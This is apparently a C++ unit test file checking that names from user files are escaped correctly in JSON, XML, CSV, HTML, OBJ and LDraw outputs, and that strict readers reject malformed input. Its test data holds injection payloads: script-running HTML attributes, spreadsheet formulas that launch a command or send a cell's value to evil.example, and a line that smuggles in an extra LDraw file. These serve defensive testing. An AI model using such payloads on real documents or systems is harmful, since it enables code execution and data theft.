// Names from the user's files and settings in every output that carries
// names: each output, read back by a strict reader of its format, holds them
// inside their fields.

#include <gtest/gtest.h>

#include "output_checks.h"
#include "strict_readers.h"
#include "temp_program_folder.h"

TEST(OutputNames, HostileNamesStayInTheirFieldsOfEveryOutput) {
    const std::string hostile[] = {
        "plain",
        "x\" onerror=\"alert(1);",
        "My #1 house",
        "a\n1 16 0 0 0 1 0 0 0 1 0 0 0 1 evil.dat\n0 FILE evil.ldr\nb",
        "FILE evil.ldr",
        "ends in a backslash\\",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click me\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\xED\xA0\x80y",              // an encoded surrogate
        "\xC0\xAF overlong \xF5\x80", // an overlong form and a lead byte beyond Unicode
        "caf\xE9 \xFF",               // Latin-1
        "</script><svg/onload=alert(1)>",
        "]]><!-- & ' \"><img src=x onerror=alert(1)>",
        "tab\there\vand\fform\x01\x7F",
        "100%25 sure?#frag",
        std::string(300, 'w'),
    };
    TTempProgramFolder folder;
    for (const std::string& name : hostile) {
        const TOutputNames names{name, name, name, name, name};
        EXPECT_EQ(OutputsProblem(names, folder.Path()), "") << name;
    }
}

TEST(OutputNames, TheStrictReadersRefuseWhatTheFormatsDoNot) {
    EXPECT_EQ(JsonProblem("{\"a\":[1,-2.5e3,true,null,\"\\u00e9\"]}"), "");
    for (const char* bad : {"{\"a\":1,}", "[01]", "\"\xED\xA0\x80\"", "{\"a\" 1}", "\"tab\there\""})
        EXPECT_NE(JsonProblem(bad), "") << bad;
    EXPECT_EQ(XmlProblem("<?xml version=\"1.0\"?><a b=\"&amp;\"><c/>x &lt; y</a>"), "");
    for (const char* bad :
         {"<a><b></a></b>", "<a b=c/>", "<a>&nope;</a>", "<a b=\"1\" b=\"2\"/>", "<a/><b/>"})
        EXPECT_NE(XmlProblem(bad), "") << bad;
    EXPECT_EQ(CsvProblem("a,\"b,\"\"c\"\"\"\r\n\"'=1\",2\r\n", 2), "");
    for (const char* bad : {"a,b\n", "=1,b\r\n", "a\"b,c\r\n", "a,b,c\r\n"})
        EXPECT_NE(CsvProblem(bad, 2), "") << bad;
    const std::set<std::string> tags{"p", "img"}, attributes{"src"};
    EXPECT_EQ(HtmlProblem("<p>a &amp; b<img src=\"x%22\"></p>", tags, attributes), "");
    for (const char* bad :
         {"<p onclick=\"x\">", "<img src=\"x\" onerror=\"y\">", "<script>", "a < b", "<img src=x>"})
        EXPECT_NE(HtmlProblem(bad, tags, attributes), "") << bad;
    EXPECT_EQ(ObjProblem("o a\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n"), "");
    for (const char* bad : {"v 0 0 0\nf 0 1 1\n", "o a\\\nv 0 0 0\n", "usemtl a#b\n", "bogus 1\n"})
        EXPECT_NE(ObjProblem(bad), "") << bad;
    const std::string mpd = "0 FILE main.ldr\r\n1 16 0 0 0 1 0 0 0 1 0 0 0 1 s.dat\r\n0 FILE s.dat\r\n"
                            "3 0x2FF0000 0 0 0 1 0 0 0 1 0\r\n";
    EXPECT_EQ(LdrawProblem(mpd, 2), "");
    EXPECT_NE(LdrawProblem(mpd + "0 FILE evil.ldr\r\n", 2), "");
    EXPECT_NE(LdrawProblem("0 FILE main.ldr\r\n1 16 0 0 0 1 0 0 0 1 0 0 0 1 t.dat\r\n", 1), "");
}
